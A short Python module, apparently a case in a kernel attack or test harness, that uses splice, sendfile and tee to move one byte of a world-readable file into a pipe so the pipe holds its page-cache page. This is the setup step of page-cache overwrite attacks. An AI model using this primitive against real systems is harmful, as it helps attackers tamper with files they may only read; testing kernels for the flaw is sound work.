"""Moves a byte of a file that everybody may read into a pipe, by splice, sendfile and tee: the pipe
holds its page.
"""

import os

from attack import attack, call, held, target


@attack
def _():
    file = os.open(target.common, os.O_RDONLY)
    for _ in range(2):
        held.extend(os.pipe())
    for name, arguments in (
        ("splice", (file, None, held[1], None, 1, 0)),
        ("sendfile", (held[1], file, None, 1)),
        ("tee", (held[0], held[3], 1, 0)),
    ):
        try:
            call(name, *arguments)
        except OSError:
            continue
